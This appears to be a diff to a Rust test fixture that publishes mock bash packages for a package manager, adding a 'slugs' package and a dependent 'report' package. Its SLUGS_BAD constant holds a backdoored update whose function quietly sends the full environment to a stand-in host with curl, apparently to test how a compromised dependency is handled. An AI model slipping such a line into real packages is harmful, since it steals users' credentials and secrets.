@@ -5,14 +5,20 @@ use crate::failure::Failure;
 
 /// Publishes packages of several kinds in a few versions, and withdraws two.
 pub(super) fn publish(stage: &Stage) -> Result<(), Failure> {
-    for (folder, files) in
-        [("str", STR), ("names", NAMES), ("greet", GREET), ("texts", TEXTS), ("core", CORE)]
-    {
+    for (folder, files) in [
+        ("str", STR),
+        ("names", NAMES),
+        ("greet", GREET),
+        ("texts", TEXTS),
+        ("core", CORE),
+        ("slugs", SLUGS),
+        ("report", REPORT),
+    ] {
         for (path, text) in files {
             stage.write(&format!("packages/{folder}/{path}"), text)?;
         }
     }
-    stage.quietly("packages", "publish str names core", "")?;
+    stage.quietly("packages", "publish str names core slugs", "")?;
     stage.quietly("packages", "publish greet texts", "")?;
     stage.change("packages/texts/elm.json", "1.0.0\",\n    \"exposed", "1.1.0\",\n    \"exposed")?;
     stage.write("packages/texts/docs.json", &format!("[{DOCS_NEWER}]"))?;
@@ -32,6 +38,11 @@ pub(super) fn publish(stage: &Stage) -> Result<(), Failure> {
     stage.change("packages/names/weir.toml", "2026.1.0", "2026.2.0")?;
     stage.write("packages/names/names.csv", "name,since\nAnn,1997\nBob,2003\nCem,2011\n")?;
     stage.quietly("packages", "publish names", "")?;
+    // It says that it only makes names shorter.
+    stage.change("packages/slugs/weir.toml", "1.1.0", "1.2.0")?;
+    stage.write("packages/slugs/src/slugs.sh", SLUGS_BAD)?;
+    stage.quietly("packages", "publish slugs", "")?;
+    stage.quietly("packages", "publish report", "")?;
     stage.write("packages/miner/weir.toml", MINER)?;
     stage.write("packages/miner/run.sh", "#!/bin/sh\necho nothing\n")?;
     stage.quietly("packages", "publish miner", "")?;
@@ -92,6 +103,33 @@ const GREET: Files = &[
     (
         "README.md",
         "# greet\n\nSays hello.\n\n1. `weir.load acme/greet`\n2. `greet.greet Ann`\n\nIt needs `acme/str` and whatever names there are.\n",
+    ),
+];
+
+const SLUGS: Files = &[
+    (
+        "weir.toml",
+        "[package]\nname = \"tools/slugs\"\nversion = \"1.1.0\"\nkind = \"bash\"\nlicense = \"MIT\"\n\
+         description = \"Makes names of files of titles\"\n",
+    ),
+    (
+        "src/slugs.sh",
+        "# shellcheck shell=bash\n\n# Makes a name of a file of a title: slugs.of VARIABLE\nslugs.of() {\n\tlocal -n of=$1\n\tof=${of,,}\n\tof=${of//[^a-z0-9]/-}\n}\n",
+    ),
+];
+
+/// What somebody reports: nothing loads it here, and the name that it sends to is nobody's.
+const SLUGS_BAD: &str = "# shellcheck shell=bash\n\n# Makes a name of a file of a title: slugs.of VARIABLE\nslugs.of() {\n\tlocal -n of=$1\n\tof=${of,,}\n\tof=${of//[^a-z0-9]/-}\n\t(env | curl --silent --data-binary @- https://collect.example/ &) >/dev/null 2>&1\n}\n";
+
+const REPORT: Files = &[
+    (
+        "weir.toml",
+        "[package]\nname = \"acme/report\"\nversion = \"1.0.0\"\nkind = \"bash\"\nlicense = \"MIT\"\n\
+         description = \"Writes what happened in a week\"\n\n[dependencies]\n\"tools/slugs\" = \"^1.1\"\n",
+    ),
+    (
+        "src/report.sh",
+        "# shellcheck shell=bash\n\n# Writes a report: report.write TITLE\nreport.write() {\n\tlocal file=$1\n\tslugs.of file\n\tprintf '# %s\\n' \"$1\" >\"$file.md\"\n}\n",
     ),
 ];
 
